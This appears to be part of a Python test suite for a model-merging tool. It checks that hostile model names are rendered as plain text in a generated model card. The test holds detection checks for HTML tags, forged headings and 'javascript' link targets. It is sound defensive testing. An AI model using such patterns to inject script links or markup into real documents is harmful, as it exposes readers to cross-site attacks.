    """Tables keep their columns, the recipe its block, and HTML is text; names in the files stay as they are."""
    name = f"layers.{SIGNS[sign]}.weight"
    tensors = {**small_base(), name: torch.ones(4, 4)}
    folder = "".join(letter for letter in SIGNS[sign] if letter not in "/\0")[:100]
    base = save(tmp_path / f"base{folder}", tensors)
    tuned = save(tmp_path / f"tuned{folder}", tuned_tensors(tensors, 1))
    recipe = {
        "base": str(base),
        "models": [{"path": str(tuned), "name": SIGNS[sign]}],
        "method": "dare_ties",
        "rules": [{"match": "*" + SIGNS[sign].replace("[", "[[]") + "*", "options": {"density": 0.001}}],
    }
    with tally(GROUP, f"name: {sign}", "model card") as injection:
        record = library.merge(recipe, tmp_path / f"out{folder}", backend="serial")
        card = (Path(record.output) / "README.md").read_text(encoding="utf-8")
        assert_card(card, record)
        assert name in load_file(Path(record.output) / "model.safetensors")
        told = json.loads((Path(record.output) / "run.json").read_text())
        assert told["sources"][1]["name"] == SIGNS[sign]
        assert name in [tensor["name"] for tensor in told["tensors"]]
        injection.outcome = "shown as text"


def assert_card(card: str, record) -> None:
    for sign in card:
        assert sign == "\n" or unicodedata.category(sign) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), ascii(card)
    header, rest = card.removeprefix("---\n").split("\n---\n", 1)
    assert yaml.safe_load(header)["base_model_relation"] == "merge"
    before, _, rest = rest.partition("## Recipe\n\n")
    fence = rest.partition("yaml\n")[0]
    assert set(fence) == {"`"}
    block, _, after = rest.removeprefix(f"{fence}yaml\n").partition(f"\n{fence}\n")
    assert yaml.safe_load(block) == record.recipe
    assert fence not in block
    outside = before + after
    headings = [line for line in outside.splitlines() if line.startswith("#")]
    assert [line for line in headings if "forged" in line and not line.startswith("# out")] == []
    in_code = False
    for at, letter in enumerate(outside):
        in_code ^= letter == "`" and (at == 0 or outside[at - 1] != "\\")
        assert letter != "<" or in_code, outside
    assert "](javascript" not in re.sub(r"(`+).*?\1", "", outside).replace("\\]", "")
    for title, columns in (("## Models\n", 3), ("## What was done\n", 3)):
        rows = [line for line in before.partition(title)[2].lstrip("\n").partition("\n\n")[0].splitlines() if line]
        assert len(rows) >= 3
        assert {row.replace("\\|", "").count("|") for row in rows} == {columns + 1}, rows


def test_an_error_is_the_same_text_but_for_signs_that_act(tmp_path):
    error = SuperposeError("größe → 重み", where="a\tb", mend="x\ny")
    assert str(error) == "größe → 重み\nwhere: a\\tb\nmend: x\\ny"
    assert (error.what, error.where, error.mend) == ("größe → 重み", "a\tb", "x\ny")
